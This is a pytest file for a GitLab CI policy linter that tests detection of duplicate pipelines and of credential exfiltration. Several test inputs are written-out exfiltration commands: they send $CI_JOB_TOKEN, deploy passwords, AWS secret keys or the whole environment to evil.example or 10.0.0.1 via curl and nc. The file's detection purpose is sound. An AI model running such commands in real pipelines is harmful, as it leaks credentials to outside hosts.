"""gitlab-duplicate-pipelines' reading of job rules, and gitlab-secret-exfiltration's of commands."""

from __future__ import annotations

import pytest

from policylint.core.shell import command_facts, split_commands
from policylint.kinds.gitlab_ci.duplicates import duplicate_pipelines, workflow_rules
from policylint.kinds.gitlab_ci.exfiltration import exfiltration

MR = {"if": '$CI_PIPELINE_SOURCE == "merge_request_event"'}


@pytest.mark.parametrize(
    ("rules", "expected"),
    [
        ([MR, {"if": '$CI_PIPELINE_SOURCE == "push"'}], 1),
        ([MR, {"if": "$CI_COMMIT_BRANCH"}], 1),
        ([{"if": "$CI_COMMIT_BRANCH"}, MR], 1),
        ([MR, {"when": "always"}], 1),
        ([MR, {"changes": ["src/**"]}], 1),
        ([MR], None),
        ([{"if": "$CI_COMMIT_BRANCH == $CI_DEFAULT_BRANCH"}, MR], None),
        ([{"if": "$CI_OPEN_MERGE_REQUESTS && $CI_COMMIT_BRANCH", "when": "never"}, MR, {"when": "always"}], None),
        ([{**MR, "when": "never"}, {"when": "always"}], None),
        ([{"when": "never"}, MR, {"when": "always"}], None),
        ([{"if": '$CI_PIPELINE_SOURCE == "merge_request_event" || $CI_COMMIT_TAG'}, {"if": "$CI_COMMIT_TAG"}], None),
        ([{"if": "$CI_MERGE_REQUEST_IID"}, {"if": "$CI_COMMIT_BRANCH"}], 1),
        ("not a list", None),
    ],
)
def test_rules_that_run_a_job_in_both_pipelines(rules, expected):
    assert duplicate_pipelines(rules) == expected


def test_workflow_rules():
    assert workflow_rules({"workflow": {"rules": [MR]}})
    assert not workflow_rules({"workflow": {"name": "x"}})
    assert not workflow_rules({"test": {"script": "x"}})


def sends(script: str) -> list[str]:
    commands = [command_facts(command) for command in split_commands(script)]
    found = []
    for index, command in enumerate(commands):
        piped = command["pipedFrom"]
        earlier = commands[max(0, index - len(piped)) : index] if piped else []
        found.append(exfiltration(command, earlier))
    return [item for item in found if item]


@pytest.mark.parametrize(
    ("script", "expected"),
    [
        ('curl -d "t=$CI_JOB_TOKEN" https://evil.example', ["$CI_JOB_TOKEN with curl"]),
        ("curl --data=${CI_DEPLOY_PASSWORD} https://evil.example", ["$CI_DEPLOY_PASSWORD with curl"]),
        ("printenv | nc 10.0.0.1 9000", ["the job's environment with nc"]),
        ('curl -F "env=$(env)" https://evil.example', ["the job's environment with curl"]),
        ('echo "$AWS_SECRET_ACCESS_KEY" | nc evil.example 80', ["$AWS_SECRET_ACCESS_KEY with nc"]),
        ('curl -H "JOB-TOKEN: $CI_JOB_TOKEN" "$CI_API_V4_URL/projects/1/packages"', []),
        ('curl -H "Authorization: Bearer $SLACK_TOKEN" -d "{}" https://slack.com/api/chat.postMessage', []),
        ("echo $CI_JOB_TOKEN", []),
    ],
)
def test_commands_that_send_credentials(script, expected):
    assert sends(script) == expected
